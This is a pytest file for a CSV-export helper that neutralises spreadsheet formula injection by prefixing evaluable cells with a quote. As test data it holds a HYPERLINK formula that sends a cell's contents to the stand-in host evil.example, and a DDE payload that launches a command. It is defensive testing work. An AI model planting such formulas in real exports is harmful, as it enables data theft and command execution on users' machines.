"""Spreadsheet formula injection (issue "Safe by default", finding 5): text cells that a
spreadsheet would evaluate are prefixed with a single quote; everything else is untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from workshop import csv_safe

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\0=1+1", "=cmd|' /C calc'!A0"],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_prefixed(text):
    assert csv_safe.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ada", "Zoë = 1", "", "'=already quoted", " =space first",
                                   3, -3, 2.5, None, True])
def test_everything_else_is_left_alone(value):
    assert csv_safe.neutralise(value) == value


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"learner": [HOSTILE, "Ada"], "failed tries": [-1, 3],
                          "minutes since": [-0.5, 1.0], "=total": ["-", "ok"]})
    safe = csv_safe.neutralise_frame(frame)
    assert list(safe["learner"]) == ["'" + HOSTILE, "Ada"]
    assert (
        list(safe["failed tries"]) == [-1, 3]
        and safe["failed tries"].dtype == frame["failed tries"].dtype
    )
    assert list(safe["minutes since"]) == [-0.5, 1.0]
    assert list(safe.columns) == ["learner", "failed tries", "minutes since", "'=total"]
    assert list(frame["learner"]) == [HOSTILE, "Ada"]  # the original is not changed


def test_the_csv_text_has_no_cell_that_starts_a_formula():
    frame = pd.DataFrame({"learner": [HOSTILE, "+44 20 7946 0000", "Line\nbreak, comma"],
                          "n": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(csv_safe.to_csv(frame))))
    assert rows[0] == ["learner", "n"]
    cells = [cell for row in rows[1:] for cell in row if not cell.lstrip("-").isdigit()]
    assert cells == ["'" + HOSTILE, "'+44 20 7946 0000", "Line\nbreak, comma"]
    assert not any(cell.startswith(csv_safe.FORMULA_PREFIXES) for cell in cells)
